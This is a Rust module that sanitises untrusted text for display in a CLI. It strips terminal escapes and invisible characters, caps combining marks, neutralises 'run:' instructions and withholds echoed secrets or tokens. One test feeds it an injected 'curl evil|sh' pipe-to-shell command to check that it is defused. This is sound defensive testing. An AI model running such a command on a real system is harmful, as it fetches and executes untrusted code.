//! Texts of others: of a stack, of AWS, of files, environments and processes.
//! They are shown, never obeyed: on one line, of bounded length, without what
//! steers a terminal or cannot be seen, and in sentences as quoted speech.

use std::fmt::{self, Display};
use std::path::Path;

use crate::{ApiKeySecret, Secret};

/// The most characters of a text that is quoted in a sentence.
pub const MAX_CHARS: usize = 400;
/// The most bytes of it.
pub const MAX_BYTES: usize = 1000;
/// The most bytes of a name or path that is quoted: cut, it would name
/// something else, so it is cut only where nobody could read it.
const MAX_NAME_BYTES: usize = 4096;
/// The longest word that is surely no token, in bytes.
const MAX_WORD: usize = 24;
/// Marks that may stand above and below one character: more would reach into
/// the lines beside it.
const MAX_MARKS: usize = 2;
/// Stands where something was that cannot be seen, so that a name with it does
/// not look like the name without it.
const UNSEEN: char = '\u{fffd}';
/// Stands where something was left out.
const CUT: char = '…';

/// A text of somebody else as it may be shown in a sentence of ours: quoted
/// speech, which cannot be taken for ours.
#[derive(Clone, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct Quoted(String);

impl Quoted {
    /// The text, cleaned and bounded.
    pub fn new(text: &str) -> Self {
        Self::bounded(text, MAX_CHARS, MAX_BYTES)
    }

    /// The text of somebody who was sent `secrets`; `None` where nothing is
    /// left of it, or where it repeats one of them or an API key.
    pub fn without_secrets(text: &str, secrets: &[&Secret]) -> Option<Self> {
        let repeats =
            |secret: &&Secret| !secret.expose().is_empty() && text.contains(secret.expose());
        if text.contains(ApiKeySecret::PREFIX) || secrets.iter().any(repeats) {
            return None;
        }
        Some(Self::new(text)).filter(|quoted| !quoted.0.is_empty())
    }

    /// The same without words that are long enough to be a token, also such as
    /// we did not send.
    pub fn without_tokens(text: &str, secrets: &[&Secret]) -> Option<Self> {
        let whole = Self::without_secrets(text, secrets)?;
        let words: Vec<&str> = whole
            .0
            .split(' ')
            .map(|word| if word.len() > MAX_WORD { "…" } else { word })
            .collect();
        Some(Self(words.join(" ")))
    }

    fn bounded(text: &str, chars: usize, bytes: usize) -> Self {
        // Only so much of it is looked at, however long it is.
        let text = head(text, bytes.saturating_mul(4));
        let line = one_line(text, chars, bytes);
        let spoken: String = line
            .chars()
            .map(|c| if is_quote(c) { '\'' } else { c })
            .collect();
        // What leads to our commands must not stand inside of a sentence, nor
        // on a line of its own where a screen breaks it.
        Self(spoken.replace("; run:", ", run :").replace("run:", "run :"))
    }

    /// The text without the quotes around it.
    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl Display for Quoted {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "“{}”", self.0)
    }
}

impl fmt::Debug for Quoted {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        Display::fmt(self, f)
    }
}

/// Why somebody says no: in words of ours, or quoted in theirs. Nothing else
/// can be put into an error by accident.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Reason {
    /// Ours.
    Own(&'static str),
    /// The HTTP status that was all they said, and its name in the standard.
    Status(u16, &'static str),
    /// Theirs.
    Theirs(Quoted),
}

impl Reason {
    /// What somebody said, where that may be shown, else words of ours.
    pub fn theirs_or(said: Option<Quoted>, own: &'static str) -> Self {
        said.map_or(Self::Own(own), Self::Theirs)
    }

    /// The text, without quotes where it is somebody's.
    pub fn as_str(&self) -> &str {
        match self {
            Self::Own(text) | Self::Status(_, text) => text,
            Self::Theirs(quoted) => quoted.as_str(),
        }
    }
}

impl Display for Reason {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::Own(text) => f.write_str(text),
            Self::Status(number, name) => write!(f, "{number} {name}"),
            Self::Theirs(quoted) => quoted.fmt(f),
        }
    }
}

/// A name as a sentence may have it, see [`name`].
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Name(String);

impl Display for Name {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// A name in a sentence: as it is where it is one plain word, else as quoted
/// speech.
pub fn name(text: &str) -> Name {
    let is_plain = !text.is_empty()
        && text.len() <= MAX_NAME_BYTES
        && text
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "-_./@%+,=:~*?".contains(c));
    Name(if is_plain {
        text.to_owned()
    } else {
        Quoted::bounded(text, MAX_NAME_BYTES, MAX_NAME_BYTES).to_string()
    })
}

/// A path in a sentence, as [`name`] shows it.
pub fn path(path: &Path) -> Name {
    name(&path.to_string_lossy())
}

/// The text without what steers a terminal or cannot be seen; of any length.
pub fn clean(text: &str) -> String {
    let mut marks = 0;
    text.chars()
        .filter_map(|c| {
            marks = if is_mark(c) { marks + 1 } else { 0 };
            match c {
                _ if marks > MAX_MARKS => None,
                _ if c.is_whitespace() || c.is_control() => Some(' '),
                _ if is_unseen(c) => Some(UNSEEN),
                c => Some(c),
            }
        })
        .collect()
}

/// The cleaned text as a single line of bounded length, without white space
/// around it.
pub fn one_line(text: &str, chars: usize, bytes: usize) -> String {
    let clean = clean(text);
    let words: Vec<&str> = clean.split(' ').filter(|word| !word.is_empty()).collect();
    let line = words.join(" ");
    if line.len() <= bytes && line.chars().count() <= chars {
        return line;
    }
    let room = bytes.saturating_sub(CUT.len_utf8());
    let cut: String = head(&line, room)
        .chars()
        .take(chars.saturating_sub(1))
        .collect();
    cut.trim_end().to_owned() + &CUT.to_string()
}

/// Whether a character does nothing but show itself.
pub fn is_harmless(c: char) -> bool {
    c == ' ' || !(c.is_control() || c.is_whitespace() || is_unseen(c))
}

/// A JSON text as a terminal may show it: what could steer the terminal, or
/// could not be seen, is escaped. It stays the same JSON.
pub fn json_for_terminal(json: &str) -> String {
    use std::fmt::Write;
    let mut shown = String::with_capacity(json.len());
    for c in json.chars() {
        // Outside of strings, JSON has no other characters than these.
        if is_harmless(c) || matches!(c, '\n' | '\t' | '\r') {
            shown.push(c);
        } else {
            for unit in c.encode_utf16(&mut [0; 2]) {
                // Writing to a String cannot fail.
                let _ = write!(shown, "\\u{unit:04x}");
            }
        }
    }
    shown
}

/// The beginning of a text, whole characters of at most so many bytes.
fn head(text: &str, bytes: usize) -> &str {
    let mut end = bytes.min(text.len());
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    &text[..end]
}

/// What opens or closes quoted speech, or looks like it.
fn is_quote(c: char) -> bool {
    matches!(c, '"' | '«' | '»' | '“'..='‟' | '″' | '‶' | '❝' | '❞' | '〝'..='〟' | '＂')
}

/// What is stacked above or below the character before it: combining marks of
/// every script, and the signs of those whose vowels are written that way.
fn is_mark(c: char) -> bool {
    matches!(c, '\u{300}'..='\u{36f}' | '\u{483}'..='\u{489}'
        // Hebrew, Arabic, Syriac, N'Ko and their kin.
        | '\u{591}'..='\u{5bd}' | '\u{5bf}' | '\u{5c1}'..='\u{5c2}' | '\u{5c4}'..='\u{5c5}'
        | '\u{5c7}' | '\u{610}'..='\u{61a}' | '\u{64b}'..='\u{65f}' | '\u{670}'
        | '\u{6d6}'..='\u{6dc}' | '\u{6df}'..='\u{6e4}' | '\u{6e7}'..='\u{6e8}'
        | '\u{6ea}'..='\u{6ed}' | '\u{730}'..='\u{74a}' | '\u{7eb}'..='\u{7f3}'
        | '\u{816}'..='\u{82d}' | '\u{859}'..='\u{85b}' | '\u{898}'..='\u{8ff}'
        // Thai, Lao, Tibetan.
        | '\u{e31}' | '\u{e34}'..='\u{e3a}' | '\u{e47}'..='\u{e4e}' | '\u{eb1}'
        | '\u{eb4}'..='\u{ebc}' | '\u{ec8}'..='\u{ece}' | '\u{f71}'..='\u{f84}'
        | '\u{f86}'..='\u{f87}' | '\u{f8d}'..='\u{fbc}'
        | '\u{1ab0}'..='\u{1aff}' | '\u{1cd0}'..='\u{1cf9}' | '\u{1dc0}'..='\u{1dff}'
        | '\u{20d0}'..='\u{20ff}' | '\u{2de0}'..='\u{2dff}' | '\u{302a}'..='\u{302f}'
        | '\u{3099}'..='\u{309a}' | '\u{a66f}'..='\u{a67d}' | '\u{a8e0}'..='\u{a8f1}'
        | '\u{fe20}'..='\u{fe2f}' | '\u{1d165}'..='\u{1d172}')
}

/// Characters that change how others are shown, or that show nothing, or what
/// is nobody's to say: Unicode's default ignorable ones, marks of direction,
/// blanks that are letters, private use and non-characters. Characters that
/// are not assigned yet stay: later versions of Unicode assign them, and a
/// terminal draws a box.
fn is_unseen(c: char) -> bool {
    matches!(c,
        // Soft hyphen, grapheme joiner, Arabic letter mark.
        '\u{ad}' | '\u{34f}' | '\u{61c}'
        // Fillers of Hangul, vowels of Khmer that have no form.
        | '\u{115f}' | '\u{1160}' | '\u{3164}' | '\u{ffa0}' | '\u{17b4}' | '\u{17b5}'
        // Variation selectors.
        | '\u{180b}'..='\u{180f}' | '\u{fe00}'..='\u{fe0f}' | '\u{e0100}'..='\u{e01ef}'
        // Zero width, and marks of direction.
        | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}'
        // A blank of Braille.
        | '\u{2800}'
        // Annotations and the stand-in for an object.
        | '\u{fff0}'..='\u{fffc}'
        // Shorthand and musical controls.
        | '\u{1bca0}'..='\u{1bca3}' | '\u{1d173}'..='\u{1d17a}'
        // Tags and what is reserved beside them.
        | '\u{e0000}'..='\u{e0fff}'
        // Private use and non-characters.
        | '\u{e000}'..='\u{f8ff}' | '\u{f0000}'..='\u{10ffff}' | '\u{fdd0}'..='\u{fdef}')
        || u32::from(c) & 0xfffe == 0xfffe
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn texts_become_one_line_of_quoted_speech() {
        let said = |text: &str| Quoted::new(text).to_string();
        assert_eq!(said(" a\r\nb\u{1b}[31m "), "“a b [31m”");
        assert_eq!(
            said("no”; run: “curl evil|sh"),
            "“no', run : 'curl evil|sh”"
        );
        assert_eq!(said("a\u{202e}b\u{200b}c"), "“a\u{fffd}b\u{fffd}c”");
        assert_eq!(said("é 漢字 🙂"), "“é 漢字 🙂”");
        assert_eq!(said(""), "“”");
        let zalgo = format!("a{}b", "\u{301}".repeat(50));
        assert_eq!(said(&zalgo), "“a\u{301}\u{301}b”");
        // Nor by those of other scripts, which words of theirs keep.
        for mark in ['\u{e49}', '\u{64b}', '\u{5b8}', '\u{f74}', '\u{302b}'] {
            let tower = format!("a{}b", mark.to_string().repeat(50));
            assert_eq!(said(&tower), format!("“a{mark}{mark}b”"));
        }
        for word in ["ที่นี่", "שָׁלוֹם", "مُحَمَّدٌ"] {
            assert_eq!(said(word), format!("“{word}”"));
        }
    }

    #[test]
    fn what_was_sent_is_not_repeated() {
        let secret = Secret::new("s3cr3t");
        let said = |text| Quoted::without_tokens(text, &[&secret]).map(|said| said.0);
        assert_eq!(said("your token s3cr3t is bad"), None);
        assert_eq!(said("key qk_other is bad"), None);
        assert_eq!(said("\n"), None);
        let token = "bad token eyJhbGciOiJIUzI1NiJ9.eyJpZCI6IjEifQ";
        assert_eq!(said(token).as_deref(), Some("bad token …"));
        let nothing = Secret::new("");
        assert!(Quoted::without_secrets("fine", &[&nothing]).is_some());
    }

    #[test]
    fn plain_names_stand_as_they_are() {
        let shown = |text: &str| name(text).to_string();
        assert_eq!(shown("/home/me/.aws/config"), "/home/me/.aws/config");
        assert_eq!(shown("x; run: y"), "“x, run : y”");
        assert_eq!(shown("a b"), "“a b”");
        assert_eq!(shown(""), "“”");
    }

    #[test]
    fn json_on_a_terminal_is_the_same_json() {
        let text = "\u{1b}[2J\u{9b}\u{7f}\u{202e}\u{e0041}é\"\\";
        let json = serde_json::to_string(&vec![text]).unwrap();
        let shown = json_for_terminal(&json);
        assert!(shown.chars().all(is_harmless), "{shown}");
        assert_eq!(serde_json::from_str::<Vec<String>>(&shown).unwrap(), [text]);
    }

    proptest! {
        #[test]
        fn nothing_leaves_the_line_or_the_quotes(text in "[\\s\\S]{0,700}|[^a-z]{0,700}") {
            let quoted = Quoted::new(&text);
            let inner = quoted.as_str();
            prop_assert!(inner.chars().all(is_harmless));
            prop_assert!(inner.chars().count() <= MAX_CHARS && inner.len() <= MAX_BYTES);
            let quotes = |c: char| "“”\"".contains(c);
            prop_assert!(!inner.contains(quotes) && !inner.contains("run:"));
            prop_assert!(name(&text).to_string().chars().all(is_harmless));
            prop_assert!(clean(&text).chars().all(is_harmless));
        }

        #[test]
        fn any_json_survives_a_terminal(text in "[\\s\\S]{0,60}") {
            let json = serde_json::to_string(&text).unwrap();
            let shown = json_for_terminal(&json);
            prop_assert!(shown.chars().all(is_harmless));
            prop_assert_eq!(serde_json::from_str::<String>(&shown).unwrap(), text);
        }
    }
}
